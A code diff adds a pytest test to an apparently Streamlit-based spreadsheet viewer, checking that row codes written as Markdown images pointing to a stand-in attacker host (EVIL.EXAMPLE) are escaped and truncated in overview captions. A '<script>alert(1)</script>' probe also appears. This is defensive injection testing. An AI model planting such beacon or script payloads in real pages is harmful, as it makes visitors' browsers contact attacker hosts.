@@ -123,6 +123,25 @@ def test_workbook_text_is_shown_literally(monkeypatch: pytest.MonkeyPatch, tmp_p
     assert at.dataframe[0].value.iloc[0]["Sub Kegiatan"] == "<script>alert(1)</script>"
 
 
+def test_row_codes_in_overview_captions_are_literal_and_cut(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    """Seen by the attacker review: a KODE written as a Markdown image made every visitor's browser fetch it."""
+    wb = openpyxl.load_workbook(BUNDLED)
+    sheet = wb["Rencana Aksi"]
+    for row in range(9, sheet.max_row + 1):
+        if sheet.cell(row=row, column=19).value:
+            sheet.cell(row=row, column=19, value=f"![X](HTTP://EVIL.EXAMPLE/{sheet.cell(row=row, column=19).value}"
+                                                 f"{'.PNG' if row % 2 else 'Y' * 200})")
+    path = tmp_path / "codes.xlsx"
+    wb.save(path)
+    at = run_app(monkeypatch, path)
+    assert not at.exception
+    overdue = next(c.value for c in at.caption if c.value.startswith("terjadwal s.d. September, belum selesai"))
+    assert "\\!\\[X\\]\\(HTTP\\://EVIL\\.EXAMPLE/RA\\-01" in overdue
+    assert "![X](" not in overdue.replace("\\", "\\\\")  # no unescaped image syntax survives
+    assert "Y" * 50 not in overdue and "…" in overdue  # long codes are cut in the caption
+    assert "lainnya" in overdue  # 11 rows overdue: the first 8 are listed
+
+
 def test_the_store_seeds_version_1_and_sessions_see_a_new_version(monkeypatch: pytest.MonkeyPatch,
                                                                   tmp_path: Path) -> None:
     import io
